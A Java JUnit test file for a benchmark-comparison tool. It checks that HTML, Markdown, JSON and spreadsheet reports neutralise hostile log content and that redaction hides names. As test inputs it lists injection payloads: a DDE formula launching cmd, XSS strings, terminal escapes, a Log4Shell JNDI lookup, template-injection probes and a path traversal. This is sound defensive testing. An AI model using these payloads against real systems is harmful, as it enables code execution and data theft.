package io.benchdoctor;

import static org.assertj.core.api.Assertions.assertThat;

import io.benchdoctor.cli.SteadyRun;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import org.apache.poi.ss.usermodel.Cell;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.commonmark.ext.autolink.AutolinkExtension;
import org.commonmark.ext.gfm.tables.TablesExtension;
import org.commonmark.parser.Parser;
import org.commonmark.renderer.html.HtmlRenderer;
import org.jsoup.Jsoup;
import org.jsoup.nodes.Document;
import org.jsoup.nodes.Element;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** What a log says is inert in every output of a comparison, and gone with {@code --redact}; the showcase is approved. */
class CompareOutputsTest {
    private static final Path APPROVED = Path.of("src/test/approved/showcase");
    private static final List<String> EXTENSIONS =
            List.of("compare.html", "compare.md", "compare.json", "compare.xlsx");

    @TempDir
    Path folder;

    @ParameterizedTest
    @ValueSource(
            strings = {
                "=cmd|' /C calc'!A0",
                "+HYPERLINK(1,2)",
                "@SUM(1) @everyone",
                "<img src=x onerror=alert(1)>",
                "<script>alert(1)</script>",
                "\\\" onmouseover=\\\"alert(1)",
                "[x](javascript:alert(1)) ![y](http://e.example/p.png) http://e.example/",
                "\\u001b]0;title\\u0007\\u001b[2J",
                "\\u202egpj.exe\\u2066",
                "| a | b |\\n|---|---|\\n# heading",
                "${1234*5678} #{1234*5678} <#assign x=1>",
                "${jndi:ldap://e.example/a}",
                "../../../../tmp/written-by-a-comparison"
            })
    void what_a_log_says_does_nothing(String attack) throws IOException {
        String base = SteadyRun.of(1, 1, 2).replace("a/b", attack).replace("\"vllm\"", "\"" + attack + "\"");
        String now = SteadyRun.of(2, 1.3, 2).replace("a/b", attack + "2");

        Program.Result result = compare(base, now);
        Path out = folder.resolve("out");

        assertThat(result.out() + result.err())
                .doesNotContainPattern("[\\x00-\\x08\\x0b-\\x1f\\x7f-\\x9f\\u202a-\\u202e\\u2066-\\u2069]")
                .doesNotContain("Exception");
        isInert(Jsoup.parse(Files.readString(out.resolve("compare.html"))));
        Document pasted = Jsoup.parse(html(Files.readString(out.resolve("compare.md"))));
        isInert(pasted);
        pasted.select("code").remove();
        assertThat(pasted.text()).doesNotContainPattern("@\\w");
        assertThat(Files.readString(out.resolve("compare.md"))).doesNotContain("\u001b", "\u202e");
        try (XSSFWorkbook book = new XSSFWorkbook(Files.newInputStream(out.resolve("compare.xlsx")))) {
            book.forEach(sheet -> sheet.forEach(row -> row.forEach(CompareOutputsTest::isInert)));
        }
        assertThat(Path.of("/tmp/written-by-a-comparison")).doesNotExist();
        assertThat(Outputs.of(out)).containsOnlyKeys(EXTENSIONS);
    }

    private static void isInert(Document document) {
        for (Element element : document.getAllElements()) {
            assertThat(element.normalName()).isNotIn("img", "iframe", "object", "embed", "base", "form");
            element.attributes()
                    .forEach(attribute -> assertThat(attribute.getKey()).doesNotStartWith("on"));
            assertThat(element.attr("href")).doesNotContainPattern("^\\s*(javascript|data|https?):");
        }
        document.select("script").forEach(script -> assertThat(script.data()).doesNotContain("alert(1)"));
        assertThat(document.select("h1, h2, h3").eachText()).doesNotContain("heading");
        assertThat(document.text()).doesNotContain("7006652", "7,006,652");
    }

    private static void isInert(Cell cell) {
        if (cell.getCellType() == CellType.FORMULA) {
            assertThat(cell.getCellFormula()).doesNotContain("cmd", "HYPERLINK", "SUM(1)", "!A0");
        }
        assertThat(cell.getHyperlink()).isNull();
    }

    private static String html(String markdown) {
        var extensions = List.of(TablesExtension.create(), AutolinkExtension.create());
        return HtmlRenderer.builder()
                .extensions(extensions)
                .build()
                .render(Parser.builder().extensions(extensions).build().parse(markdown));
    }

    @Test
    void with_redact_no_name_reaches_an_output() throws IOException {
        String names = "zorblax|quuxcorp|wibble";
        Path base = Files.createDirectories(folder.resolve("zorblax")).resolve("wibble.json");
        Path now = Files.createDirectories(folder.resolve("quuxcorp")).resolve("wibble.json");
        Files.writeString(base, SteadyRun.of(1, 1, 2).replace("a/b", "/home/zorblax/Wibble-7B"));
        Files.writeString(now, SteadyRun.of(2, 1.3, 2).replace("a/b", "/srv/quuxcorp/Wibble-8B"));

        for (String redact : List.of("--no-redact", "--redact")) {
            Program.Result result = Program.run(
                    "compare",
                    base.toString(),
                    now.toString(),
                    redact,
                    "-f",
                    "html,xlsx,json,md",
                    "-o",
                    folder.resolve("out").toString());
            String told = result.out().replace(folder.toString(), "") + Outputs.of(folder.resolve("out"));

            assertThat(told.toLowerCase(java.util.Locale.ROOT).matches("(?s).*(" + names + ").*"))
                    .isEqualTo(redact.equals("--no-redact"));
            assertThat(told).contains("regression");
        }
    }

    @Test
    void the_showcase_is_what_was_approved() throws IOException {
        compare(SteadyRun.of(1, 1, 2), SteadyRun.of(2, 1.2, 2));
        Map<String, Path> approved = Map.of(
                "compare.html",
                APPROVED.resolve("compare.html"),
                "compare.json",
                APPROVED.resolve("compare.json"),
                "compare.md",
                APPROVED.resolve("compare.md"));
        for (Map.Entry<String, Path> output : approved.entrySet()) {
            String text = Files.readString(folder.resolve("out").resolve(output.getKey()))
                    .replace(folder + "/", "");
            if (Boolean.getBoolean("approve")) {
                Files.writeString(output.getValue(), text);
            }

            assertThat(text).isEqualTo(Files.readString(output.getValue()));
        }
    }

    private Program.Result compare(String base, String now) throws IOException {
        Path before = Files.writeString(folder.resolve("base.json"), base);
        Path after = Files.writeString(folder.resolve("new.json"), now);
        return Program.run(
                "compare",
                before.toString(),
                after.toString(),
                "-l",
                "en",
                "-f",
                "html,xlsx,json,md",
                "-o",
                folder.resolve("out").toString());
    }
}
